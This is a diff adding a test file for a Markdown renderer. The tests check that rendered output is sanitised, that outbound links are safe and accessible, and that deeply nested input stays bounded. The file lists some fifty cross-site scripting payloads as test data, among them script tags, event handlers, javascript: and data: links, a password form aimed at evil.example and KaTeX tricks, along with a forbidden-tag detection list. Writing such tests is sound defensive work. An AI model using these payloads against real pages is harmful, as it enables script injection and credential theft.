@@ -1,0 +1,187 @@
+import { MantineProvider } from '@mantine/core'
+import { renderToStaticMarkup } from 'react-dom/server'
+import { beforeAll, expect, test } from 'vitest'
+import { startTexts } from '../../i18n/i18n.ts'
+import { remarkGfm } from './gfm.ts'
+import { highlightCode } from './highlight-code.ts'
+import { MarkdownBody } from './MarkdownBody.tsx'
+import { remarkMath, renderMath } from './math.ts'
+
+beforeAll(async () => {
+  // The page's own address, by which links that leave are told from those that stay.
+  Object.assign(globalThis, { window: { location: { href: 'https://judge.example.org/home' } } })
+  await startTexts('en-US')
+})
+
+/** The markup of a text with every extension, as it would stand in a page. */
+function render(source: string): string {
+  return renderToStaticMarkup(
+    <MantineProvider>
+      <MarkdownBody
+        source={source}
+        remarkPlugins={[remarkGfm, remarkMath]}
+        rehypePlugins={[renderMath, highlightCode]}
+      />
+    </MantineProvider>,
+  )
+}
+
+const TAGS = /<([a-zA-Z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g
+const ATTRIBUTES = /([\w:-]+)(?:="([^"]*)")?/g
+const FORBIDDEN_TAGS =
+  /^(script|iframe|object|embed|form|link|meta|base|video|audio|frame|template|noscript|textarea|select|dialog|portal)$/i
+/** The renderer's own: KaTeX's MathML and drawings, and Mantine's style sheet. */
+const LOCAL_ADDRESS = /^(https?:\/\/|mailto:|\/(?!\/)|#|[\w.%-]+$)/
+
+/** Everything in a markup that could run, load or frame something it should not. */
+function dangersOf(markup: string): string[] {
+  const body = markup.replace(/<style data-mantine-styles[^>]*>.*?<\/style>/gs, '')
+  return [...body.matchAll(TAGS)].flatMap(([, tag = '', attributes = '']) => [
+    ...(FORBIDDEN_TAGS.test(tag) ? [`<${tag}>`] : []),
+    ...[...attributes.matchAll(ATTRIBUTES)].flatMap(([, name = '', value = '']) => {
+      if (/^on/i.test(name) || name === 'srcdoc' || name === 'formaction') return [`${tag} ${name}`]
+      if (/^(href|src|xlink:href|action|poster|srcset|cite)$/i.test(name) && !LOCAL_ADDRESS.test(value))
+        return [`${tag} ${name}=${value}`]
+      return []
+    }),
+  ])
+}
+
+test.each([
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<style>* { display: none }</style>',
+  '<div style="position:fixed;inset:0">over everything</div>',
+  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<details open ontoggle=alert(1)>',
+  '<p id="root" name="location">x</p>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\nscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://judge.example.org/1)',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pjwvc2NyaXB0Pjwvc3ZnPg==)',
+  '![x"onerror="alert(1)](/a.png)',
+  '![x](/a.png "\\"onerror=alert(1) x=\\"")',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '[^1]\n\n[^1]: <script>alert(1)</script>',
+  '```"><script>alert(1)</script>\nx\n```',
+  '```html\n<script>alert(1)</script>\n```',
+  '| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |',
+  '- [x] <script>alert(1)</script>',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$\\url{javascript:alert(1)}$',
+  '$\\includegraphics{https://evil.example/a.png}$',
+  '$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{x}{y}$ $\\htmlData{a=b}{x}$',
+  '$\\unicode{<script>alert(1)</script>}$',
+  '$<script>alert(1)</script>$',
+  '$$\n\\def\\a{\\a\\a}\\a\n$$',
+  '**<b onclick=alert(1)>**',
+  '> > > <script>alert(1)</script>',
+  '<!-- --><script>alert(1)</script><!-- -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?><script>alert(1)</script>',
+  'http://a.example/"onmouseover="alert(1)',
+  'www.example.org/<script>',
+])('%j does no harm', (source) => {
+  expect(dangersOf(render(source))).toEqual([])
+})
+
+test('the look for dangers finds them', () => {
+  expect(dangersOf('<p><a href="javascript:alert(1)" onclick="x">x</a><script></script></p>')).toEqual([
+    'a href=javascript:alert(1)',
+    'a onclick',
+    '<script>',
+  ])
+})
+
+test('signs that turn the direction or are invisible stay where they are', () => {
+  const markup = render('a \u202e b \u2067 c \u200b d \ufeff e')
+  expect(markup).toContain('a \u202e b \u2067 c \u200b d \ufeff e')
+})
+
+test('links that leave open beside the page, give nothing away and say so', () => {
+  const markup = render('[out](https://example.org) [in](/status) [same](https://judge.example.org/x) //a')
+  const [out = '', within = '', same = ''] = [...markup.matchAll(/<a [^>]*>/g)].map(([tag]) => tag)
+  expect(out).toContain('target="_blank"')
+  expect(out).toContain('rel="noopener noreferrer nofollow ugc"')
+  expect(markup).toContain('(opens in a new tab)')
+  expect(within + same).not.toContain('target')
+})
+
+test('pictures load late, tell no one where they are shown, and have a text', () => {
+  const [picture = ''] = render('![a cat](/api/public/img/1.png)').match(/<img[^>]*>/) ?? []
+  for (const part of ['alt="a cat"', 'loading="lazy"', 'referrerPolicy="no-referrer"'])
+    expect(picture.toLowerCase()).toContain(part.toLowerCase())
+})
+
+test('a task says whether it is done', () => {
+  const markup = render('- [x] one\n- [ ] two')
+  expect([...markup.matchAll(/aria-label="(Done|Not done)"/g)].map(([, text]) => text)).toEqual([
+    'Done',
+    'Not done',
+  ])
+  expect(markup.match(/disabled=""/g)).toHaveLength(2)
+})
+
+test('a footnote and its place lead to each other', () => {
+  const markup = render('text[^1]\n\n[^1]: the note')
+  const ids = new Set([...markup.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id))
+  const targets = [...markup.matchAll(/href="#([^"]*)"/g)].map(([, id]) => id ?? '')
+  expect(targets).toHaveLength(2)
+  for (const target of targets) expect(ids).toContain(decodeURIComponent(target))
+})
+
+test('code can be copied, tables scroll', () => {
+  const markup = render('```cpp\nint x;\n```\n\n| a |\n| - |\n| 1 |')
+  expect(markup).toContain('aria-label="Copy"')
+  expect(markup).toContain('hljs-')
+  expect(markup).toMatch(/tabindex="0"><table>/i)
+})
+
+test.each([
+  ['a megabyte', 'word '.repeat(200_000)],
+  ['quotations in quotations', `${'>'.repeat(5_000)} x`],
+  ['a long run of stars', `${'*'.repeat(5_000)}x${'*'.repeat(5_000)}`],
+  ['a long run of brackets', '['.repeat(50_000)],
+  ['a giant paragraph', '[a]('.repeat(6_000)],
+])('%s is shown as it was written', (_, source) => {
+  const markup = render(source)
+  expect(markup).toContain('This text is too long or nested too deep')
+  expect(dangersOf(markup)).toEqual([])
+})
+
+test.each([
+  ['quotations', '> '.repeat(90)],
+  ['lists', Array.from({ length: 90 }, (_, level) => `${' '.repeat(level * 2)}- x`).join('\n')],
+  ['emphasis', `${'*_'.repeat(300)}x${'_*'.repeat(300)}`],
+  ['formulas', `$${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$`],
+  ['brackets', '![a]('.repeat(500)],
+])('deeply nested %s end at a depth that browsers can lay out', (_, source) => {
+  const markup = render(source)
+  let depth = 0
+  let deepest = 0
+  for (const [tag] of markup.matchAll(/<\/?(blockquote|ul|li|em|strong|a)\b[^>]*>/g)) {
+    depth += tag.startsWith('</') ? -1 : 1
+    deepest = Math.max(deepest, depth)
+  }
+  expect(deepest).toBeLessThanOrEqual(60)
+})
